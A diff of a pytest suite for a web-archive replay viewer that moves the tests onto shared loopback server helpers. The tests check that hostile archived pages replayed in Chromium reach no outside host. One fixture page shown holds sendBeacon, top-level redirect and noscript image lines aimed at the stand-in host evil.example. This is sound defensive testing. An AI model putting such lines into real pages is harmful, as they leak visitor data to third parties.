@@ -2,21 +2,20 @@
 
 from __future__ import annotations
 
-import asyncio
 import contextlib
 import shutil
-import socket
 import subprocess
 import tarfile
-import threading
 from urllib.parse import quote, urlsplit
 
 import pytest
-import uvicorn
-from replay_building import SITE, at, extraction, published, store
 
 from talkscraper.replay.wacz import write_wacz
 from talkscraper.store import requisites
+from tests.support.archives import SITE, extraction, published, store
+from tests.support.clock import at
+from tests.support.raw_server import Answer, RawServer
+from tests.support.web_servers import Running
 
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
 pytestmark = [
@@ -52,34 +51,16 @@ top.location = "http://evil.example/top"; navigator.sendBeacon("http://evil.exam
 <noscript><img src="http://evil.example/noscript.png"></noscript></body></html>"""
 
 
-class Outside:
-    """Stands where the internet would: the browser's proxy for all but loopback. Logs what arrives, answers nothing."""
-
-    def __init__(self):
-        self.arrived: list[bytes] = []
-        self._socket = socket.create_server(("127.0.0.1", 0))
-        self.port = self._socket.getsockname()[1]
-        threading.Thread(target=self._accept, daemon=True).start()
-
-    def _accept(self):
-        with contextlib.suppress(OSError):
-            while True:
-                connection, _ = self._socket.accept()
-                with contextlib.closing(connection), contextlib.suppress(OSError):
-                    connection.settimeout(5)
-                    line = connection.recv(4096).split(b"\r\n")[0]
-                    if b".example" in line:
-                        self.arrived.append(line)
-
-    def close(self):
-        self._socket.close()
+def arrived(outside):
+    """The addresses outside of loopback that the proxy was asked for."""
+    return [path for path in outside.log if ".example" in path]
 
 
 @pytest.fixture(scope="module")
 def outside():
-    proxy = Outside()
-    yield proxy
-    proxy.close()
+    """Stands where the internet would: the browser's proxy for all but loopback. It answers nothing."""
+    with RawServer(otherwise=Answer([], "close")) as proxy:
+        yield proxy
 
 
 @pytest.fixture(scope="module")
@@ -99,7 +80,7 @@ def visit(browser, outside):
     """Opens pages; afterwards nothing may have left for outside, and whatever was asked for was ours or refused."""
     asked = []
     errors: list[str] = []
-    outside.arrived.clear()
+    outside.log.clear()
     context = browser.new_context(viewport={"width": 1280, "height": 900})
     context.on("request", lambda request: asked.append(request))  # noqa: PLW0108  a builtin method won't do
     context.on("weberror", lambda error: errors.append(str(error.error)))
@@ -114,7 +95,7 @@ def visit(browser, outside):
     yield open_page
     refused = [request.url for request in asked if is_outside(request.url) and request.failure != "csp"]
     context.close()
-    assert outside.arrived == []
+    assert arrived(outside) == []
     assert refused == []
     assert errors == []
 
@@ -130,7 +111,7 @@ def test_the_proxy_would_have_seen_what_leaves(browser, outside):
     page.set_content('<img src="http://seen.example/x.png">')
     page.wait_for_timeout(500)
     page.close()
-    assert any(b"seen.example" in line for line in outside.arrived)
+    assert any("seen.example" in path for path in arrived(outside))
 
 
 def test_a_hostile_page_runs_nothing_and_asks_for_nothing_outside(built, serve, visit):
@@ -296,7 +277,7 @@ def test_scripts_run_in_the_viewer_and_still_ask_for_nothing_outside(built, serv
     first = built.respond(f"{SITE}/a", "2025-10-01T08:00:00", SCRIPTED)
     built.respond(f"{SITE}/s.css", "2025-10-01T08:00:01", "h1{color:rgb(1,2,3)}", mime="text/css", page=first)
     served = serve(built.done())
-    outside.arrived.clear()
+    outside.log.clear()
     context = browser.new_context()
     page = context.new_page()
     page.goto(f"{served.replay}/web/20251001080000/{SITE}/a")
@@ -307,7 +288,7 @@ def test_scripts_run_in_the_viewer_and_still_ask_for_nothing_outside(built, serv
     assert heading.evaluate("element => getComputedStyle(element).color") == "rgb(1, 2, 3)"
     page.wait_for_timeout(1000)
     context.close()
-    assert outside.arrived == []
+    assert arrived(outside) == []
 
 
 @pytest.fixture
@@ -320,15 +301,10 @@ def files(tmp_path):
 
     folder = tmp_path / "served"
     shutil.copytree(data_folder(), folder)
-    listening = socket.create_server(("127.0.0.1", 0))
     app = Starlette()
     app.mount("/", StaticFiles(directory=folder, html=True))
-    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", access_log=False, lifespan="off"))
-    thread = threading.Thread(target=lambda: asyncio.run(server.serve(sockets=[listening])), daemon=True)
-    thread.start()
-    yield folder, f"http://127.0.0.1:{listening.getsockname()[1]}"
-    server.should_exit = True
-    thread.join(30)
+    with Running(app) as server:
+        yield folder, server.base
 
 
 PNG = bytes.fromhex(
@@ -379,12 +355,12 @@ def test_a_wacz_of_a_page_that_shares_its_style_is_complete(viewer, files, built
 
 def opened_in_player(browser, outside, player, url, timestamp):
     """The frame in which the player shows a page, when its heading is there."""
-    outside.arrived.clear()
+    outside.log.clear()
     page = browser.new_context().new_page()
     page.goto(f"{player}#view=pages&url={quote(url, safe='')}&ts={timestamp}")
     frame = page.frame_locator("iframe")
     frame.locator("#h").wait_for(timeout=120_000)
-    assert outside.arrived == []
+    assert arrived(outside) == []
     return frame
 
 
@@ -560,34 +536,10 @@ def tricks(out):
     ]
 
 
-class Everything:
-    """A server on a loopback port that counts every connection, whatever is said on it; it may answer a page."""
-
-    def __init__(self, answer=""):
-        self.connections = 0
-        self._answer = f"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n{answer}".encode() if answer else b""
-        self._socket = socket.create_server(("127.0.0.1", 0))
-        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
-        threading.Thread(target=self._accept, daemon=True).start()
-
-    def _accept(self):
-        with contextlib.suppress(OSError):
-            while True:
-                connection, _ = self._socket.accept()
-                self.connections += 1
-                with contextlib.closing(connection), contextlib.suppress(OSError):
-                    if self._answer:
-                        connection.recv(4096)
-                        connection.sendall(self._answer)
-
-    def close(self):
-        self._socket.close()
-
-
 def test_no_trick_of_a_page_opens_a_connection(built, serve, browser, tmp_path):
     """Each as a page, in a frame, as a requisite and as raw bytes: not even a connection without a request is made."""
-    everything = Everything()
-    collection = tricks(everything.url)
+    everything = RawServer(otherwise=Answer([], "close"))
+    collection = tricks(everything.base)
     for path, mime, body, headers in collection:
         built.respond(f"{SITE}{path}", "2025-10-01", body, mime=mime, headers=headers)
     served = serve(built.done())
@@ -603,10 +555,11 @@ def test_no_trick_of_a_page_opens_a_connection(built, serve, browser, tmp_path):
             page.goto(address)
             page.wait_for_timeout(100)
 
-    control = Everything(f'<svg><style><br><link rel="preconnect" href="{everything.url}"></style></svg>')
-    visit(control.url)
-    page.wait_for_timeout(1000)
-    control.close()
+    with RawServer() as control:
+        control.page("/", f'<svg><style><br><link rel="preconnect" href="{everything.base}"></style></svg>')
+        control.otherwise = Answer([], "close")
+        visit(f"{control.base}/")
+        page.wait_for_timeout(1000)
     assert everything.connections, "the check could not fail"
     everything.connections = 0
     found = {}
